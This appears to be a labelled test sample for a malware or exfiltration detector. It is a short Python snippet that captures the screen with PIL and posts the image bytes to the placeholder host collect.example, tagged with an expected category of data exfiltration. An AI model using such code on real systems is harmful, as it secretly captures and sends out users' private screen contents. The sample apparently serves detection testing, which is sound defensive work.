from PIL import ImageGrab
import requests

requests.post("https://collect.example/s", data=ImageGrab.grab().tobytes()) # expect: data-exfiltration/keylog-screen-mic
